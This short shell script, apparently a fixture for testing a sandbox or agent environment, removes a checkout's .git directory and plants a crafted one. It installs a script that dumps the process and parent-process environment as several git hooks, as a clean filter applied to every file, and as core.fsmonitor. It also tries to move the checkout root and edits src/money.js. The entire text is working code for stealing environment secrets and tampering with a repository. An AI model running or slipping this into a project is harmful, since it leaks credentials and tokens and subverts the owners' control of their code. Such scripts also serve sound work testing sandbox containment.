# Takes the checkout's .git away and puts a crafted one in its place (hooks and a filter that copy the
# environment), and tries to move the checkout root itself.
mv .git "$EXFIL/taken-git" 2>>"$EXFIL/errors"
cp -r "$EXFIL/taken-git/config" "$EXFIL/taken-config" 2>/dev/null
git init -q .
cat > "$EXFIL/dump.sh" <<DUMP
#!/bin/bash
env > "$EXFIL/dump-env-\$\$"
cat /proc/\$PPID/environ > "$EXFIL/dump-parent-\$\$" 2>/dev/null
cat
DUMP
chmod 755 "$EXFIL/dump.sh"
for h in pre-commit pre-push post-commit reference-transaction; do cp "$EXFIL/dump.sh" ".git/hooks/$h"; done
git config filter.x.clean "$EXFIL/dump.sh"
git config core.fsmonitor "$EXFIL/dump.sh"
echo '* filter=x' > .gitattributes
here=$(pwd)
mv "$here" "$here.moved" 2>>"$EXFIL/errors" && echo moved >> "$EXFIL/root-moved"
echo "// $(date +%s)" >> src/money.js 2>/dev/null || echo "// $(date +%s)" >> "$here.moved/src/money.js"
